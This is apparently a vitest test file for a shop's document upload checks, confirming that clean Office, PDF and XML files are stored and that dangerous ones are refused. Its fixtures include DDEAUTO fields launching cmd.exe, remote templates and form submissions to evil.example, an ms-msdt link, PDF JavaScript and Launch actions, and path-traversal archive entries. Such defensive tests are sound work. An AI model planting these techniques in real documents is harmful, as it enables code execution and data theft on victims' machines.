/** The shop refuses documents with parts that run, load something or are hidden, and stores ordinary documents. */
import { beforeAll, beforeEach, describe, expect, test } from 'vitest';
import {
  createContentTypes,
  createObjectStream,
  createOfficeFile,
  createOleFile,
  createPdf,
  createPdfStream,
  createPhoto,
  createZip,
  PDF,
  upload,
  type ZipPart,
} from '../../../../test/support/fixtures/files.ts';
import { addShopper, type Shopper } from '../../../../test/support/fixtures/fixtures.ts';
import { openSharedTestShop, type SharedTestShop } from '../../../../test/support/shop/shared-shop.ts';
import type { Refusal } from '../../../lib/outcome.ts';
import { buildRefusalBody } from '../../../messages/sentences.ts';
import {
  CANNOT_BE_CHECKED,
  FILE_IS_BROKEN,
  HAS_DOCUMENT_TYPE,
  HAS_FORBIDDEN_PARTS,
  HAS_HIDDEN_PARTS,
  HAS_PROGRAMS,
  HAS_SCRIPTS,
  KIND_IS_UNKNOWN,
  LOADS_OTHER_PARTS,
  UNPACKS_TOO_LARGE,
} from '../refusals.ts';

let shop: SharedTestShop;
let shopper: Shopper;
beforeAll(async () => {
  shop = await openSharedTestShop();
});
beforeEach(async () => {
  shopper = await addShopper(shop.db);
});

const send = (bytes: Buffer) => upload(shop.app, bytes, { token: shopper.token });
const listFiles = () => shop.db.selectFrom('files').select('key').where('user_id', '=', shopper.user_id).execute();

const RELATIONS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
type RelationOptions = { isExternal?: boolean; name?: string };
/** `name`: the name of the part that lists the relation. */
const createRelation = (
  type: string,
  target: string,
  { isExternal = false, name = 'word/_rels/document.xml.rels' }: RelationOptions = {},
): ZipPart => ({
  name,
  body: `<?xml version="1.0"?><Relationships><Relationship Id="r1" Type="${type.includes('/') ? type : `${RELATIONS}/${type}`}" Target="${target}"${isExternal ? ' TargetMode="External"' : ''}/></Relationships>`,
});
/** A page header with a field of Word. Its instruction, such as PAGE, is split into these fragments, as Word splits it too. */
const createField = (...fragments: string[]): ZipPart => ({
  name: 'word/header1.xml',
  body: `<w:hdr xmlns:w="urn:w">${fragments.map((fragment) => `<w:r><w:instrText xml:space="preserve">${fragment}</w:instrText></w:r>`).join('')}</w:hdr>`,
});
const createWorkbookTypes = (workbookType: string, ...moreTypes: string[]): ZipPart => ({
  name: '[Content_Types].xml',
  body: `<Types><Override PartName="/xl/workbook.xml" ContentType="${workbookType}"/>${moreTypes.join('')}</Types>`,
});
const XLSM_TYPE = 'application/vnd.ms-excel.sheet.macroEnabled.main+xml';
const workbook: ZipPart = { name: 'xl/workbook.xml', body: '<workbook/>' };
const OLE_HEAD = Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0, 0, 0]);
const DEEP_XML = `<a>${'<b x="1">'.repeat(900)}${'</b>'.repeat(900)}</a>`;

/** The first argument of `createObjectStream` is the number of the packed object. */
const ACCEPTED_FILES: [extension: string, description: string, createFile: () => Buffer | Promise<Buffer>][] = [
  [
    'docx',
    'with pictures, a link, a field and a folder',
    async () =>
      createOfficeFile(
        'docx',
        { name: 'word/', body: '' },
        { name: 'word/media/image1.jpeg', body: await createPhoto(20, 20).jpeg().toBuffer() },
        // Word sometimes names a picture with another format's extension.
        { name: 'word/media/image2.jpeg', body: await createPhoto(20, 20).png().toBuffer() },
        { name: 'word/media/image3.emf', body: Buffer.concat([Buffer.from([1, 0, 0, 0]), Buffer.alloc(36), Buffer.from(' EMF')]) },
        createRelation('hyperlink', 'https://uruhu.example/', { isExternal: true }),
        createField(' PAGE ', ' HYPERLINK "https://uruhu.example" '),
      ),
  ],
  ['docx', 'in UTF-16', () => createOfficeFile('docx', { name: 'word/styles.xml', body: Buffer.from('\ufeff<styles/>', 'utf16le') })],
  [
    'xlsx',
    'with printer settings, the frames of comments and ten thousand rows',
    () =>
      createOfficeFile(
        'xlsx',
        { name: 'xl/printerSettings/printerSettings1.bin', body: Buffer.from('HP LaserJet', 'utf16le') },
        { name: 'xl/drawings/vmlDrawing1.vml', body: '<xml xmlns:v="urn:schemas-microsoft-com:vml"><br></xml>' },
        createRelation('hyperlink', 'mailto:muraho@uruhu.example', { isExternal: true, name: 'xl/worksheets/_rels/sheet1.xml.rels' }),
        {
          name: 'xl/worksheets/sheet1.xml',
          body: `<sheet>${Array.from({ length: 10_000 }, (_, row) => `<c r="A${row}"><v>${row * 7}</v></c>`).join('')}</sheet>`,
        },
      ),
  ],
  ['xlsm', 'without a macro', () => createOfficeFile('xlsm')],
  [
    'xlsm',
    'whose macro was taken out, its type left over',
    () =>
      createZip([
        createWorkbookTypes(XLSM_TYPE, '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
        workbook,
      ]),
  ],
  ['doc', 'of Word 97', () => createOleFile('Root Entry', 'WordDocument', '1Table', '\x05SummaryInformation')],
  ['pdf', 'of the smallest valid form', () => PDF],
  ['pdf', 'with packed objects', () => createPdf('<</Type/Catalog>>', createObjectStream(9, '<</Type/Page/Parent 1 0 R>>'))],
  [
    'pdf',
    'with pages, pictures, links, chapters and a compressed cross-reference table',
    async () =>
      createPdf(
        '<</Type/Catalog/Outlines 2 0 R/OpenAction[3 0 R /XYZ null null 0]>>',
        '<</Type/Outlines/First 4 0 R/Last 4 0 R/Count 1>>',
        '<</Type/Page/Annots[<</Subtype/Link/A<</S/URI/URI(https://uruhu.example/\\(a\\))>>>>]>>',
        createPdfStream(
          '/Subtype/Image/Filter/DCTDecode',
          await createPhoto(60, 60).jpeg().toBuffer(),
          await createPhoto(60, 60).jpeg().toBuffer(),
        ),
        createPdfStream('/Type/XRef/W[1 2 1]/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 4>>', 'rows'),
        createPdfStream('/Filter/FlateDecode', 'BT (See /JS and /AA for more) Tj ET'),
      ),
  ],
  ['pdf', 'that opens at a page by an action', () => createPdf('<</Type/Catalog/OpenAction<</S/GoTo/D[2 0 R /Fit]>>>>')],
  ['pdf', 'that opens at a place in a referenced object', () => createPdf('<</Type/Catalog/OpenAction 2 0 R>>', '[3 0 R /Fit]')],
  [
    'pdf',
    'that opens at a place in packed objects',
    () => createPdf('<</Type/Catalog/OpenAction 7 0 R>>', createObjectStream(7, '<</S /GoTo/D[2 0 R /Fit]>>')),
  ],
  [
    'xml',
    'with a tag of a thousand attributes',
    () => Buffer.from(`<a ${Array.from({ length: 1_000 }, (_, index) => `a${index}="1"`).join(' ')}/>`),
  ],
  ['xml', 'of nine hundred nested elements', () => Buffer.from(DEEP_XML)],
];

describe('the shop accepts', () => {
  test.each(ACCEPTED_FILES)('%s %s', async (extension, _, createFile) => {
    const bytes = await createFile();
    const { status, body } = await send(bytes);
    expect([status, body.message ?? body.file_new_name]).toEqual([200, expect.stringMatching(new RegExp(`[.]${extension}$`))]);
    expect((await shop.storage.read(body.file_new_name))?.equals(bytes)).toBe(true);
  });
});

const createDocx = (...parts: ZipPart[]) => createOfficeFile('docx', ...parts);
const createXlsx = (...parts: ZipPart[]) => createOfficeFile('xlsx', ...parts);
const createProgram = (head: string) => Buffer.concat([Buffer.from(head, 'latin1'), Buffer.alloc(200)]);

const REFUSED_OFFICE_FILES: [description: string, refusal: Refusal, createFile: () => Buffer][] = [
  ['a macro', HAS_PROGRAMS, () => createOfficeFile('xlsm', { name: 'xl/vbaProject.bin', body: OLE_HEAD })],
  ['a macro in a file that claims to have none', HAS_PROGRAMS, () => createXlsx({ name: 'xl/vbaProject.bin', body: OLE_HEAD })],
  ['a macro under the name of a sheet', HAS_PROGRAMS, () => createOfficeFile('xlsm', { name: 'xl/worksheets/sheet1.xml', body: OLE_HEAD })],
  [
    'a macro that only the type of its part tells',
    HAS_PROGRAMS,
    () =>
      createZip([
        createWorkbookTypes(XLSM_TYPE, '<Override PartName="/xl/Notes.xml" ContentType="application/vnd.ms-office.vbaProject"/>'),
        workbook,
        { name: 'xl/notes.xml', body: '<a/>' },
      ]),
  ],
  [
    'a macro sheet of Excel 4',
    HAS_PROGRAMS,
    () =>
      createZip([
        createWorkbookTypes(
          XLSM_TYPE,
          '<Override PartName="/xl/macrosheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>',
        ),
        workbook,
        { name: 'xl/macrosheets/sheet1.xml', body: '<a/>' },
      ]),
  ],
  [
    'a macro that only its relation tells',
    HAS_PROGRAMS,
    () =>
      createXlsx(
        createRelation('http://schemas.microsoft.com/office/2006/relationships/vbaProject', 'a.xml', {
          name: 'xl/_rels/workbook.xml.rels',
        }),
      ),
  ],
  ['a control', HAS_PROGRAMS, () => createXlsx({ name: 'xl/activeX/activeX1.bin', body: 'a' })],
  ['a control that only its relation tells', HAS_PROGRAMS, () => createDocx(createRelation('control', 'activeX/activeX1.xml'))],
  ['an embedded object', HAS_PROGRAMS, () => createDocx({ name: 'word/embeddings/oleObject1.bin', body: OLE_HEAD })],
  ['an embedded object that only its relation tells', HAS_PROGRAMS, () => createDocx(createRelation('oleObject', 'media/a.xml'))],
  ['an embedded workbook', HAS_PROGRAMS, () => createDocx({ name: 'word/embeddings/Sheet1.xlsx', body: createOfficeFile('xlsx') })],
  ['a program', HAS_PROGRAMS, () => createDocx({ name: 'word/evil.exe', body: createProgram('MZ') })],
  [
    'a program of Linux that is called a picture',
    HAS_PROGRAMS,
    () => createDocx({ name: 'word/media/image1.png', body: createProgram('\x7fELF') }),
  ],
  [
    'a program that is called printer settings',
    HAS_PROGRAMS,
    () => createXlsx({ name: 'xl/printerSettings/printerSettings1.bin', body: createProgram('MZ') }),
  ],
  ['a program that is called XML', HAS_PROGRAMS, () => createDocx({ name: 'word/a.xml', body: createProgram('MZ') })],
  [
    'an archive that is called a picture',
    HAS_PROGRAMS,
    () => createDocx({ name: 'word/media/image1.jpeg', body: createZip([{ name: 'a', body: 'a' }]) }),
  ],
  ['a font', HAS_FORBIDDEN_PARTS, () => createDocx({ name: 'word/fonts/font1.odttf', body: 'font' })],
  [
    'the type of a macro for a part that does not exist',
    HAS_PROGRAMS,
    () =>
      createZip([
        createWorkbookTypes(XLSM_TYPE, '<Override PartName="/xl/a%2exml" ContentType="application/vnd.ms-office.vbaProject"/>'),
        workbook,
      ]),
  ],
  ['a script', HAS_PROGRAMS, () => createDocx({ name: 'word/run.vbs', body: 'MsgBox 1' })],
  ['a web page', HAS_PROGRAMS, () => createDocx({ name: 'word/afchunk.html', body: '<html/>' })],
  [
    'a field that starts a program',
    HAS_PROGRAMS,
    () => createDocx(createField(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')),
  ],
  [
    'a field that starts a program, in fragments and character codes',
    HAS_PROGRAMS,
    () => createDocx(createField(' D', '&#68;E', '&#x41;UTO c:\\\\cmd.exe')),
  ],
  [
    'a field that starts a program, in the shorter form',
    HAS_PROGRAMS,
    () => createDocx({ name: 'word/header1.xml', body: `<w:fldSimple w:instr=" DDE cmd 'a' "/>` }),
  ],
  [
    'a template from elsewhere',
    LOADS_OTHER_PARTS,
    () =>
      createDocx(
        createRelation('attachedTemplate', 'http://evil.example/a.dotm', { isExternal: true, name: 'word/_rels/settings.xml.rels' }),
      ),
  ],
  [
    'an object from elsewhere',
    HAS_PROGRAMS,
    () => createDocx(createRelation('oleObject', 'http://evil.example/a.html!', { isExternal: true })),
  ],
  ['a frame', LOADS_OTHER_PARTS, () => createDocx(createRelation('frame', 'http://evil.example/', { isExternal: true }))],
  [
    'a part that is another document',
    LOADS_OTHER_PARTS,
    () => createDocx(createRelation('subDocument', 'file://evil.example/a.docx', { isExternal: true })),
  ],
  [
    'a picture from elsewhere',
    LOADS_OTHER_PARTS,
    () => createDocx(createRelation('image', 'file://evil.example/a.png', { isExternal: true })),
  ],
  [
    'a link to a file',
    LOADS_OTHER_PARTS,
    () => createDocx(createRelation('hyperlink', 'file:///C:/Windows/System32/calc.exe', { isExternal: true })),
  ],
  ['a link that starts a program', LOADS_OTHER_PARTS, () => createDocx(createRelation('hyperlink', 'ms-msdt:/id', { isExternal: true }))],
  [
    'a link to another workbook',
    LOADS_OTHER_PARTS,
    () => createXlsx(createRelation('externalLink', 'externalLinks/externalLink1.xml', { name: 'xl/_rels/workbook.xml.rels' })),
  ],
  [
    'a connection to a database',
    LOADS_OTHER_PARTS,
    () => createXlsx(createRelation('connections', 'connections.xml', { name: 'xl/_rels/workbook.xml.rels' })),
  ],
  [
    'entities that multiply',
    HAS_DOCUMENT_TYPE,
    () => createDocx({ name: 'word/a.xml', body: '<!DOCTYPE a [<!ENTITY b "ha">]><a>&b;</a>' }),
  ],
  ['two parts of one name', FILE_IS_BROKEN, () => createDocx({ name: 'word/a.xml', body: '<a/>' }, { name: 'word/A.xml', body: '<b/>' })],
  ['a part of eleven megabytes', UNPACKS_TOO_LARGE, () => createDocx({ name: 'word/a.xml', body: Buffer.alloc(11 * 1024 * 1024, '<a/>') })],
  [
    'parts of 99 megabytes together',
    UNPACKS_TOO_LARGE,
    () =>
      createDocx(...Array.from({ length: 11 }, (_, index) => ({ name: `word/${index}.xml`, body: Buffer.alloc(9 * 1024 * 1024, '<a/>') }))),
  ],
  [
    'a part that is packed to a thousandth',
    UNPACKS_TOO_LARGE,
    () => createDocx({ name: 'word/a.xml', body: `<a>${' '.repeat(3_000_000)}</a>` }),
  ],
  [
    'a part larger than its declared size',
    FILE_IS_BROKEN,
    () => createDocx({ name: 'word/a.xml', body: '<a>and more</a>', declared: { bytes: 4 } }),
  ],
  [
    'a part smaller than its declared size',
    FILE_IS_BROKEN,
    () => createDocx({ name: 'word/a.xml', body: '<a/>', declared: { bytes: 400 } }),
  ],
  ['bytes between its parts', FILE_IS_BROKEN, () => createDocx({ name: 'word/a.xml', body: '<a/>', before: createProgram('MZ') })],
  [
    'different names in the directory and at the part',
    FILE_IS_BROKEN,
    () => createDocx({ name: 'word/a.xml', body: '<a/>', localName: 'word/b.exe' }),
  ],
  ['a part that was changed on the way', FILE_IS_BROKEN, () => createDocx({ name: 'word/a.xml', body: '<a/>', declared: { crc: 7 } })],
  ['a part whose path leads out of the archive', KIND_IS_UNKNOWN, () => createDocx({ name: '../word/a.xml', body: '<a/>' })],
  ['a part whose path leads back up from a folder', KIND_IS_UNKNOWN, () => createDocx({ name: 'word/../a.xml', body: '<a/>' })],
  ['a part whose path has a backslash, like those of Windows', KIND_IS_UNKNOWN, () => createDocx({ name: 'word\\a.xml', body: '<a/>' })],
  ['a part with an absolute path', KIND_IS_UNKNOWN, () => createDocx({ name: '/word/a.xml', body: '<a/>' })],
  ['nothing of Word in it', KIND_IS_UNKNOWN, () => createZip([createContentTypes('xlsx'), { name: 'word/document.xml', body: '<a/>' }])],
];

const REFUSED_OLD_WORD_FILES: [description: string, streams: string[]][] = [
  ['a macro', ['WordDocument', 'Macros', 'VBA', '_VBA_PROJECT']],
  ['a macro in other capitals', ['WordDocument', '_vba_Project']],
  ['embedded objects', ['WordDocument', 'ObjectPool']],
  ['a packed program', ['WordDocument', '\x01Ole10Native']],
  ['a package', ['Package', 'WordDocument']],
];

const createPdfWithCatalog = (entries: string) => createPdf(`<</Type/Catalog${entries}>>`);
const SCRIPT = '<</S/JavaScript/JS(app.alert\\(1\\))>>';
/** `head`: the dictionary of the stream that holds the packed object. */
const createPackedPdf = (head: string) => createPdf('<</Type/Catalog>>', createObjectStream(9, '<</Type/Page>>', head));
const REFUSED_PDFS: [description: string, refusal: Refusal, createFile: () => Buffer][] = [
  ['a script', HAS_SCRIPTS, () => createPdfWithCatalog(`/OpenAction${SCRIPT}`)],
  ['a script in a comment field', HAS_SCRIPTS, () => createPdf('<</Type/Catalog>>', `<</Type/Annot/A${SCRIPT}>>`)],
  ['a script in codes', HAS_SCRIPTS, () => createPdfWithCatalog('/A<</S/J#61va#53cript/J#53(a)>>')],
  ['a script in packed objects', HAS_SCRIPTS, () => createPdf('<</Type/Catalog>>', createObjectStream(9, SCRIPT))],
  [
    'a script in objects that are not packed',
    HAS_SCRIPTS,
    () => createPdf('<</Type/Catalog>>', createPdfStream('/Type/ObjStm/N 1/First 4', `9 0 ${SCRIPT}`, Buffer.from(`9 0 ${SCRIPT}`))),
  ],
  [
    'a script in packed objects whose type is written in character codes',
    HAS_SCRIPTS,
    () => createPdf('<</Type/Catalog>>', createObjectStream(9, SCRIPT, '/Type/Obj#53tm/N 1/Filter/#46lateDecode')),
  ],
  [
    'a script in packed objects without a type',
    HAS_SCRIPTS,
    () => createPdf('<</Type/Catalog>>', createObjectStream(9, SCRIPT, '/N 1/Filter[/FlateDecode]')),
  ],
  [
    'a script in packed objects behind a comment',
    HAS_SCRIPTS,
    () => createPdf('<</Type/Catalog>>', Buffer.concat([Buffer.from('%<<\n'), createObjectStream(9, SCRIPT)])),
  ],
  [
    'a script in packed objects within another stream',
    HAS_SCRIPTS,
    () =>
      createPdf(
        '<</Type/Catalog>>',
        Buffer.concat([Buffer.from('<</Length 9>>stream\n5 0 obj'), createObjectStream(9, SCRIPT), Buffer.from('\nendobj endstream')]),
      ),
  ],
  ['a program to start', HAS_SCRIPTS, () => createPdfWithCatalog('/OpenAction<</S/Launch/F(cmd.exe)>>')],
  ['an attached file', HAS_SCRIPTS, () => createPdfWithCatalog('/Names<</EmbeddedFiles<</Names[(a.exe)<</EF<</F 2 0 R>>>>]>>>>')],
  ['an attached file without its list', HAS_SCRIPTS, () => createPdf('<</Type/Catalog>>', '<</F(a)/EF <</F 3 0 R>>>>')],
  ['a film or a game', HAS_SCRIPTS, () => createPdf('<</Type/Catalog>>', '<</Subtype/RichMedia>>')],
  ['a form of the kind that has scripts', HAS_SCRIPTS, () => createPdfWithCatalog('/AcroForm<</XFA[(template)5 0 R]>>')],
  ['actions that begin by themselves', HAS_SCRIPTS, () => createPdfWithCatalog('/AA<</WC<</S/Named/N/Print>>>>')],
  [
    'actions that begin by themselves, in packed objects',
    HAS_SCRIPTS,
    () => createPdf('<</Type/Catalog>>', createObjectStream(9, '<</Type/Page/AA<</O 3 0 R>>>>')),
  ],
  ['a form that sends itself', HAS_SCRIPTS, () => createPdf('<</Type/Catalog>>', '<</S/SubmitForm/F(http://evil.example)>>')],
  ['a form that fills itself', HAS_SCRIPTS, () => createPdf('<</Type/Catalog>>', '<</S/ImportData/F(a)>>')],
  ['a link into another file', HAS_SCRIPTS, () => createPdf('<</Type/Catalog>>', '<</S/GoToR/F(\\\\\\\\evil.example\\\\a)>>')],
  ['a link into an attached file', HAS_SCRIPTS, () => createPdf('<</Type/Catalog>>', '<</S/GoToE/T<<>>>>')],
  ['a web page that opens by itself', HAS_SCRIPTS, () => createPdfWithCatalog('/OpenAction<</S/URI/URI(http://evil.example)>>')],
  [
    'a web page that opens by itself, in a referenced object',
    HAS_SCRIPTS,
    () => createPdf('<</Type/Catalog/OpenAction 2 0 R>>', '<</S/URI/URI(http://evil.example)>>'),
  ],
  [
    'a web page that opens by itself, in packed objects',
    HAS_SCRIPTS,
    () => createPdf('<</Type/Catalog/OpenAction 9 0 R>>', createObjectStream(9, '<</S/URI/URI(http://evil.example)>>')),
  ],
  ['an open action that refers to no object', HAS_SCRIPTS, () => createPdfWithCatalog('/OpenAction 77 0 R')],
  ['a password', CANNOT_BE_CHECKED, () => Buffer.from(PDF.toString().replace('/Root', '/Encrypt 5 0 R/Root'))],
  ['objects packed by another filter', CANNOT_BE_CHECKED, () => createPackedPdf('/Type/ObjStm/N 1/Filter/LZWDecode')],
  ['objects packed twice', CANNOT_BE_CHECKED, () => createPackedPdf('/Type/ObjStm/N 1/Filter[/FlateDecode/FlateDecode]')],
  ['packed objects whose filter is an indirect object', CANNOT_BE_CHECKED, () => createPackedPdf('/Type/ObjStm/N 1/Filter 5 0 R')],
  [
    'objects packed with a predictor',
    CANNOT_BE_CHECKED,
    () => createPackedPdf('/Type/ObjStm/N 1/Filter/FlateDecode/DecodeParms<</Predictor 12>>'),
  ],
  ['objects in another file', CANNOT_BE_CHECKED, () => createPackedPdf('/Type/ObjStm/N 1/F(a)/Filter/FlateDecode')],
  [
    'packed objects that are damaged',
    FILE_IS_BROKEN,
    () => createPdf('<</Type/Catalog>>', createPdfStream('/Type/ObjStm/N 1/First 4/Filter/FlateDecode', '', Buffer.from('none'))),
  ],
  [
    'packed objects of 50 megabytes',
    UNPACKS_TOO_LARGE,
    () => createPdf('<</Type/Catalog>>', createObjectStream(9, ' '.repeat(50_000_000))),
  ],
  ['a dictionary that does not end', FILE_IS_BROKEN, () => Buffer.from('%PDF-1.4\n1 0 obj<</A(\n%%EOF')],
  ['a stream that does not end', FILE_IS_BROKEN, () => Buffer.from('%PDF-1.4\n1 0 obj<</Length 5>>stream\nabcde\n%%EOF')],
  ['an archive appended', HAS_HIDDEN_PARTS, () => Buffer.concat([PDF, createZip([{ name: 'a', body: 'x'.repeat(500) }])])],
];

describe('the shop refuses, with a reason,', () => {
  const expectUploadRefused = async (bytes: Buffer, refusal: Refusal) => {
    expect((await send(bytes)).body).toEqual(buildRefusalBody(refusal));
    expect(await listFiles()).toEqual([]);
  };

  test.each(REFUSED_OFFICE_FILES)('an Office file with %s', async (_, refusal, createFile) => expectUploadRefused(createFile(), refusal));
  test.each(REFUSED_OLD_WORD_FILES)('an old Word file with %s', async (_, streams) =>
    expectUploadRefused(createOleFile('Root Entry', ...streams), HAS_PROGRAMS),
  );
  test.each(REFUSED_PDFS)('a PDF with %s', async (_, refusal, createFile) => expectUploadRefused(createFile(), refusal));
});
